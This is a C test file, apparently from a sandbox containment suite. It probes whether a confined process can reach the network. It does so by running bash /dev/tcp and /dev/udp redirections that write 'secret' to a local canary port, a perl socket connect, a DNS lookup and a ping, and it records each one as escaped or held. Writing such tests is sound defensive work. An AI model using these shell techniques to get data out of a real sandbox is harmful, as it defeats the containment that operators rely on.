// Tries: connects by what shells and tools offer, where processes are allowed
// Control: yes
// Limits: processes=16 wall=8s
#include "attack.h"

static void attack(const char *what, const char *format, const char *port)
{
    char command[512];
    snprintf(command, sizeof command, format, port);
    if (system(command) == 0)
        escaped("%s", what);
    else
        held("%s", what);
}

int main(void)
{
    const char *port = canary("tcp");
    attack("bash", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/%s && echo secret >&3' 2>/dev/null", port);
    attack("bash by UDP", "bash -c 'exec 3<>/dev/udp/127.0.0.1/%s && echo secret >&3' 2>/dev/null", port);
    attack("perl", "perl -MIO::Socket -e 'exit !IO::Socket::INET->new(\"127.0.0.1:%s\")' 2>/dev/null", port);
    attack("getent", "getent ahosts example.com >/dev/null 2>&1 # %s", port);
    attack("ping", "ping -c1 -W1 127.0.0.1 >/dev/null 2>&1 # %s", port);
}
